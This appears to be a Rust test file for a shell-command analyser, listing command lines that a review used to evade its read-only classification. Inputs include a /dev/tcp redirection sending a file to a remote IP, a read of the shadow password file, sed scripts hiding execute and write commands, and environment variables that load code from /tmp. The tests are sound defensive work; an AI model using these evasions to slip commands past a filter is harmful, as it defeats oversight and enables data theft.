//! Command lines with which a review got around this reading. Each stays here.

use super::check;
use crate::{Limits, Transfer, read};

#[test]
fn sed_scripts_whose_brackets_hide_where_they_end() {
    check(&[
        ("sed 's,[],],;s,e;#,p,' x", "sed s,[],],;s,e;#,p, x +code"),
        (
            "sed 's,[],],p;s,w /tmp/w,y,' x",
            "sed [s,[],],p;s,w /tmp/w,y,] x +code",
        ),
        (
            "sed 's,[^],],p;s,w /tmp/w,y,' x",
            "sed [s,[^],],p;s,w /tmp/w,y,] x +code",
        ),
        (
            "sed 's,[[:x,],],p;s,w f,y,' x",
            "sed [s,[[:x,],],p;s,w f,y,] x +code",
        ),
        ("sed 's,[,a,w x,' x", "sed [s,[,a,w x,] x +code"),
        ("sed 's/[/]/x/' x", "sed s/[/]/x/ x +code"),
        ("sed 's/[\\]/x/w y/' x", "sed [s/[\\]/x/w y/] x +code"),
        (
            "sed 's/[0-9]/x/;s/[^a-z ]//g' x",
            "sed [s/[0-9]/x/;s/[^a-z ]//g] x +reads",
        ),
        ("sed -n '/[0-9]/p' x", "sed -n /[0-9]/p x +reads"),
    ]);
}

#[test]
fn a_builtin_that_runs_a_command() {
    check(&[
        ("jobs -x touch /tmp/p", "jobs -x touch /tmp/p !runs-others"),
        (
            "jobs -lx touch /tmp/p",
            "jobs -lx touch /tmp/p !runs-others",
        ),
        (
            "jobs $X touch /tmp/p",
            "jobs [$X]? touch /tmp/p !runs-others",
        ),
        (
            "builtin jobs -x touch /tmp/p",
            "builtin>jobs -x touch /tmp/p !runs-others",
        ),
        ("jobs -l", "jobs -l +reads"),
    ]);
}

#[test]
fn redirections_to_files_that_are_not_known() {
    check(&[
        (
            "X=/dev/tcp/1.2.3.4/443; { cat /srv/x >&3; } 3< $X",
            "cat /srv/x ; read $x !dynamic-file",
        ),
        ("cat < /etc/shad?w", "cat ; read /etc/shad?w !dynamic-file"),
        ("cat < \"$X\"", "cat ; read $x !dynamic-file"),
        ("echo x &> $X", "echo x ; write $x !dynamic-file"),
        ("cat < <(ls)", "ls ; cat ; read <(ls) +reads"),
    ]);
}

#[test]
fn more_programs_that_run_others() {
    check(&[
        ("run0 id", "run0 id !runs-others"),
        ("ctr run x y", "ctr run x y !runs-others"),
        ("sudo-rs -u bob id", "sudo-rs>(bob)id +reads"),
        ("sudo.ws -i", "sudo.ws>(root)sudo.ws -i +stdin:sudo.ws"),
    ]);
}

#[test]
fn options_of_rsync_that_do_more_than_to_choose_how() {
    let dangerous = |options: &str| {
        let text = format!("rsync --server {options} . /srv");
        match read(text.as_bytes(), &Limits::default()).transfer {
            Some(Transfer::Rsync { dangerous, .. }) => !dangerous.is_empty(),
            other => panic!("{text}: {other:?}"),
        }
    };
    for options in [
        "-s",
        "-slogDtpre.iLsfxCIvu",
        "--protect-args",
        "--secluded-args",
        "--sender -logDtpre.iLsfxCIvu --secluded-args",
        "-L",
        "--sender -k",
        "-e.x/y",
        "-e",
        "-T/tmp",
        "--timeout --sender",
        "--copy-links",
        "--compare-dest=/etc",
        "--files-from=/x",
        "--remove-source-files",
        "--anything-new",
        "--daemon",
    ] {
        assert!(dangerous(options), "{options}");
    }
    for options in [
        "-vlogDtpre.iLsfxCIvu",
        "--sender -vvnlHogDtpAXrcCIRxSze.iLsfxCIvu --numeric-ids",
        "-logDtprze.iLsfxCIvu --delete --timeout=5 --bwlimit=100 --partial",
    ] {
        assert!(!dangerous(options), "{options}");
    }
}

/// What lies elsewhere only bears the name.
#[test]
fn a_transfer_is_by_a_program_of_the_system() {
    check(&[
        (
            "/tmp/x/git-upload-pack /srv/a.git",
            "/tmp/x/git-upload-pack /srv/a.git",
        ),
        ("./scp -t /x", "./scp -t /x"),
        ("~/rsync --server . /x", "~/rsync --server . /x"),
        (
            "/usr/lib/../../tmp/sftp-server",
            "/usr/lib/../../tmp/sftp-server",
        ),
        (
            "/usr/lib/openssh/../x/sftp-server",
            "/usr/lib/openssh/../x/sftp-server",
        ),
        ("/usr/bin/scp -t /x", "/usr/bin/scp -t /x +transfer"),
        (
            "/usr/libexec/openssh/sftp-server",
            "/usr/libexec/openssh/sftp-server +transfer",
        ),
    ]);
}

#[test]
fn programs_that_only_seemed_to_read() {
    for text in [
        "nm --plugin /tmp/x.so y",
        "nm x",
        "objdump -d x",
        "readelf -a x",
        "getconf -v ../../tmp/x Y",
        "lsof -Db/tmp/x",
        "lspci -O x=y",
        "rg -z x",
        "dmesg -H",
        "git status",
        "git log",
        "systemctl status -H h x",
        "systemctl status -Hh",
        "systemctl status --host=h",
        "systemctl status -M c",
        "kubectl get pods -s http://h",
        "kubectl get -f http://h/x",
        "kubectl get --raw=/x",
        "kubectl get secret",
        "kubectl get pods,secrets",
        "kubectl get Secrets/x -o yaml",
        "kubectl get \"s$X\"",
        "kubectl cluster-info dump --output-directory=/etc",
        "docker logs -H x",
        "crontab -l -r",
        "dpkg -l --root=/x",
        "uniq a -- -out",
        "uniq - out",
        "RIPGREP_CONFIG_PATH=/x rg y",
        "SYSTEMD_PAGER=/x systemctl status",
        "DEBUGINFOD_URLS=http://h id",
        "DBUS_SYSTEM_BUS_ADDRESS=unixexec:path=/tmp/x systemctl status",
        "GETCONF_DIR=/tmp getconf X",
        "TAPE=h:/x tar t",
    ] {
        let reading = read(text.as_bytes(), &Limits::default());
        assert!(!reading.only_reads, "{text}");
    }
    for text in [
        "systemctl status -l --no-pager -n100 nginx",
        "systemctl show --property=X nginx",
        "kubectl get pods -n x -o wide",
        "kubectl logs -c x --tail=5 pod",
        "docker logs -n 5 --since=1h x",
        "crontab -l -u bob",
        "lsof -i",
        "getconf PAGESIZE",
        "uniq -c x",
        "dpkg -l bash",
        "LC_ALL=C sort x",
    ] {
        let reading = read(text.as_bytes(), &Limits::default());
        assert!(reading.only_reads, "{text}: {:?}", reading.opaque);
    }
}
